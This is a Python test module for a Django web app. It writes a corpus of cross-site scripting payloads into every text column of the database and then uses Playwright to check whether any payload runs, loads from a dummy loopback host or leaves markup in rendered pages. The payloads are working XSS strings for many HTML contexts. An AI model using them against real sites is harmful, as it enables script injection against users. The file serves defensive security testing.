"""An installation in which every text of every row was written by an attacker, and what a browser must not do with it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from django.apps import apps
from django.db.models import BinaryField, CharField, Field, JSONField, Model, TextField
from django.db.models.fields.reverse_related import ForeignObjectRel

from integrations.security.encrypted_fields import EncryptedJSONField, EncryptedTextField
from subscriptions.models import Topic
from tests.doors.world import make_shared, make_side
from tests.factories import StoreFactory

#: Sets the canary, if it is ever run.
RUN = "window.__xss=1"
#: Where a text that escapes would fetch from: nobody listens there, and the browser's attempt is seen.
OUTSIDE = "http://127.0.0.2:9"

#: One for each place that a text can break out of. Short, so that they fit into names; each leaves a mark in the
#: page (`<x-xss>`, `x-xss=`) even where the policy stops the script.
CORPUS = {
    "element": f"<x-xss></x-xss><script>{RUN}</script>",
    "attribute": f'"\'><x-xss><img src=x onerror="{RUN}">',
    "handler": f'" x-xss autofocus onfocus={RUN} "',
    "single quotes": f"' x-xss onmouseover={RUN} tabindex=1 autofocus onfocus={RUN} '",
    "raw text": f"</textarea></title></style></script></template><x-xss><svg onload={RUN}>",
    "comment": f"--><x-xss><details open ontoggle={RUN}>]]>",
    "script": f"'-({RUN})-'\\\";{RUN};//</script><x-xss>",
    "address": f"javascript:{RUN}//%0a{RUN}",
    "data address": f"data:text/html,<x-xss><script>{RUN}</script>",
    "template": "{{ 7|add:7 }}{% debug %}${7*7}<x-xss>",
    "document": f"<base href={OUTSIDE}/><meta http-equiv=refresh content='0;url={OUTSIDE}/'><x-xss>",
    "fetch": f'"><link rel=stylesheet href={OUTSIDE}/a><iframe src={OUTSIDE}/b></iframe><x-xss>',
    "form": f'"><form action={OUTSIDE}/><button x-xss formaction={OUTSIDE}/>Resend</button>',
    "clobbering": "<a id=announcer x-xss><form name=body><input name=attributes data-live=/x data-src=/y>",
    "encodings": f"\u202e\u2028\ufeff&lt;script&gt;&#60;x-xss&#62;\\u003cx-xss\\u003e+ADw-script+AD4-{RUN}",
    "live": f'" data-live="{OUTSIDE}/" data-every=0 data-hotkey=j data-opens=help x-xss="',
}
#: Columns that the product compares with its own words, or that a person's session hangs on.
_KEPT = {
    "auth.permission", "auth.user.password", "contenttypes", "sessions", "django_q.ormq.key", "django_q.schedule.func",
    "django_q.task.id", "django_q.success.id", "django_q.failure.id", "integrations.accesstoken.token_hash",
    "integrations.integration.connector", "integrations.integration.wire_format",  # names of the registries
    "integrations.integration.permanent_statuses", "integrations.integration.retry_policy",
    "integrations.integrationhealth.recent", "deliveries.failuregroup.fingerprint", "deliveries.idempotencykey",
}  # fmt: skip


def corpus(first: int) -> str:
    """All of the corpus, beginning with its `first`: a column that is short holds the first ones only."""
    texts = list(CORPUS.values())
    return " ".join(texts[first:] + texts[:first])


def make_hostile_world(text: str) -> dict[str, Model]:
    """A row of everything; whatever of it is text, is `text`. Returns the rows by the name of their model."""
    rows = {**make_shared(), **make_side("HOSTILE").rows}
    # Topics are spelled as such, or the routing of their store would not load: this one's is used by nobody.
    Topic.objects.update(store=StoreFactory())
    for model in apps.get_models():
        if model._meta.proxy or not model._meta.managed:
            continue
        fields = [field for field in model._meta.concrete_fields if _is_writable(model, field)]
        for row in model._base_manager.all() if fields else ():
            values = {field.attname: _poisoned(field, getattr(row, field.attname), text, row) for field in fields}
            model._base_manager.filter(pk=row.pk).update(**values)
    for row in rows.values():
        row.refresh_from_db()
    return rows


def _is_writable(model: type[Model], field: Field[Any, Any] | ForeignObjectRel) -> bool:
    names = {model._meta.app_label, model._meta.label_lower, f"{model._meta.label_lower}.{field.name}"}
    is_text = isinstance(field, CharField | TextField | JSONField | BinaryField)
    is_key = getattr(field, "primary_key", False)
    return is_text and not names & _KEPT and not is_key and not getattr(field, "choices", None)


def _poisoned(field: Field[Any, Any], value: Any, text: str, row: Model) -> Any:
    if field.name == "patch":
        place = "/" + text.replace("~", "~0").replace("/", "~1")
        return [{"op": name, "path": place, "value": {text: text}} for name in ("add", "replace", "test")]
    if field.name == "filters":
        return {"q": text[:200], "topic": text[:200]}
    if isinstance(field, EncryptedTextField):
        return text if value else value
    if isinstance(field, EncryptedJSONField | JSONField):
        return _inside(value, text)
    if isinstance(field, BinaryField):
        return text.encode()
    limit: int = field.max_length or 10_000
    # What must be unique stays so.
    unique = f"{row.pk}"[-6:] if field.unique or row._meta.constraints or row._meta.unique_together else ""
    return (text[: limit - len(unique)] + unique)[:limit]


def _inside(value: Any, text: str) -> Any:
    """The same shape, with the text as every string and beside every key."""
    if isinstance(value, dict):
        return {**{key: _inside(each, text) for key, each in value.items()}, text: text}
    if isinstance(value, list):
        return [_inside(each, text) for each in value]
    return text if isinstance(value, str) else value


#: Runs before anything of a page: collects what its policy refused, and lets no timer wait for long, so that parts
#: that refresh themselves do so while the test looks.
WATCHER = """
window.__refused = [];
addEventListener("securitypolicyviolation", (event) =>
  window.__refused.push(event.effectiveDirective + " " + event.blockedURI + " " + event.sample));
const wait = window.setTimeout;
let turns = 0;
window.setTimeout = (f, ms, ...rest) => wait(f, ms > 100 && turns++ < 8 ? 30 : ms, ...rest);
const ask = window.fetch;
window.__asked = window.__pending = 0;
window.fetch = (...all) => {
  window.__asked++;
  window.__pending++;
  return ask(...all).finally(() => wait(() => { window.__pending--; }, 0));
};
"""

#: Opens whatever can be opened, and focuses and points at whatever can be.
STIR = """
async () => {
  for (const one of document.querySelectorAll("details")) { one.open = true; }
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  for (const one of document.querySelectorAll("a, button, input, select, textarea, summary, [tabindex]")) {
    one.focus({ preventScroll: true });
    one.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
  }
  if (document.activeElement) { document.activeElement.blur(); }
}
"""

#: Each part that refreshes itself has done so, and nothing is being fetched. A part that is opened by itself is still.
SETTLED = """
() => window.__pending === 0
  && (!document.querySelector("script[src*=desk]") || window.__asked >= document.querySelectorAll("[data-live]").length)
"""

#: What only a text that has escaped can have made.
TRACES = """
() => [
  ...(window.__xss === undefined ? [] : ["a script ran"]),
  ...window.__refused.map((what) => "the policy refused " + what),
  ...Array.from(document.querySelectorAll(
    "x-xss, [x-xss], script:not([src]):not([id=desk-words][type='application/json']), base, meta[http-equiv=refresh], iframe, object, embed, style"
    + ", [href^='javascript:' i], [action^='javascript:' i], [formaction]:not([formaction^='/admin/']), [src^='data:text' i], [href^='data:' i]"))
    .map((one) => "markup " + one.outerHTML.slice(0, 120)),
  ...Array.from(document.querySelectorAll("*")).filter((one) => one.getAttributeNames().some((name) => /^on/.test(name)))
    .map((one) => "attribute " + one.outerHTML.slice(0, 120)),
  ...Array.from(document.querySelectorAll("a[href], form[action], [src], [data-live], [data-src], [data-preview-url]"))
    .map((one) => one.href || one.getAttribute("action") || one.src || one.dataset.live || one.dataset.src || one.dataset.previewUrl)
    .filter((where) => typeof where === "string" && !/^[?#]/.test(where) && new URL(where, location).hostname === "127.0.0.2")
    .map((where) => "leads outside: " + where),
]
"""


def watch(page: Any, origin: str, found: list[str]) -> Callable[[str], None]:
    """Notes in `found` what page does that it must not; returns the check to run on each page by its name."""
    outside: list[str] = []
    page.on("dialog", lambda dialog: outside.extend([f"dialog {dialog.message}"]))
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("pageerror", lambda error: outside.append(f"error {error}"))

    def note_request(request: Any) -> None:
        if not request.url.startswith((origin, "data:")):
            outside.append(f"request {request.url}")

    page.on("request", note_request)
    page.add_init_script(WATCHER)

    def look(name: str) -> None:
        page.evaluate(STIR)
        _settle(page, name)
        found.extend(f"{name}: {trace}" for trace in [*page.evaluate(TRACES), *outside])
        outside.clear()

    return look


def _settle(page: Any, name: str) -> None:
    """Playwright's own waiting would evaluate text in the page, which the policy forbids."""
    for _ in range(500):
        if page.evaluate(SETTLED):
            return
        page.wait_for_timeout(20)
    raise AssertionError(f"{name}: its parts were not fetched")
